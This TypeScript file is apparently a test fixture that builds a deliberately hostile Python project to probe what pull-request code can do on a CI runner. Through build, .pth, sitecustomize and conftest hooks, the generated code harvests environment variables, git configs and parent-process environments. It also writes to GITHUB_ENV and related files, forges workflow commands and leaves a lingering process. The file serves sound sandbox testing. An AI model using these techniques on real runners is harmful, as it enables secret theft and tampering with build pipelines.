/** A pull request that tries everything which code on a runner can try, and notes what it saw. */

/** A Python function `note(kind)` that appends what its process sees to a file. */
const noting = (file: string): string => `
import glob, json, os, sys

def note(kind, **more):
    configs = []
    folder = os.getcwd()
    while folder != os.path.dirname(folder):
        for name in (".git", ".git/config", ".gitconfig"):
            path = os.path.join(folder, name)
            if os.path.isfile(path):
                configs.append(open(path, errors="replace").read())
        folder = os.path.dirname(folder)
    # What a runner obeys in files, if it told us where they are.
    for name in ("GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT", "GITHUB_STATE", "GITHUB_STEP_SUMMARY"):
        if name in os.environ:
            with open(os.environ[name], "a") as out:
                out.write("OWNED=1\\n")
    # What those that started it were started with.
    parents, pid = [], os.getppid()
    while pid > 1:
        with open(f"/proc/{pid}/cmdline") as command, open(f"/proc/{pid}/environ", errors="replace") as environ:
            parents.append(dict(command=command.read().split("\\0"), environment=environ.read().split("\\0")))
        pid = int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
    seen = dict(kind=kind, prefix=sys.prefix, environment=dict(os.environ), configs=configs, parents=parents, **more)
    with open(${JSON.stringify(file)}, "a") as out:
        out.write(json.dumps(seen) + "\\n")
`;

/** What one of its processes saw. */
export interface Seen {
  readonly kind: "build" | "pth" | "suite" | "sitecustomize";
  /** Folder of the Python environment that it ran in. */
  readonly prefix: string;
  readonly environment: Readonly<Record<string, string>>;
  /** The process that started it, the one that started that, and so on: words and `NAME=value`. */
  readonly parents: readonly { readonly command: readonly string[]; readonly environment: readonly string[] }[];
  /** Texts of git's files at and above its folder. */
  readonly configs: readonly string[];
  /** Whose code a suite measures. */
  readonly side?: string;
}

/** What base says of itself. */
export const SIDE = 'SIDE = "base"\n';

export const hostileProject = (file: string, work: string): Readonly<Record<string, string>> => ({
  "work.py": `SIDE = "head"\n${work}`,
  "pyproject.toml": `[project]
name = "plate"
version = "1"

[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]
`,
  // Builds a good wheel, with a file that Python runs at every start.
  "backend.py": `${noting(file)}
import zipfile

def build_wheel(folder, settings=None, metadata=None):
    note("build")
    print("\\n::error::owned\\n::add-mask::a\\n##[error]owned", flush=True)
    name = "plate-1-py3-none-any.whl"
    info = "plate-1.dist-info/"
    with zipfile.ZipFile(os.path.join(folder, name), "w") as wheel:
        wheel.writestr("work.py", open("work.py").read())
        wheel.writestr("evil_start.py", open(__file__).read().split("import zipfile")[0] + "\\nnote('pth')\\n")
        wheel.writestr("evil.pth", "import evil_start\\n")
        wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\\nName: plate\\nVersion: 1\\n")
        wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr(info + "RECORD", "")
    return name
`,
  "sitecustomize.py": `${noting(file)}\nnote("sitecustomize")\n`,
  // A suite is head's own on both sides; it leaves a process behind that would go on for ever.
  "benchmarks/conftest.py": `${noting(file)}
import subprocess
import work

note("suite", side=work.SIDE)
print("\\n::error::owned\\n::stop-commands::x", flush=True)
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)"], start_new_session=True)
`,
});
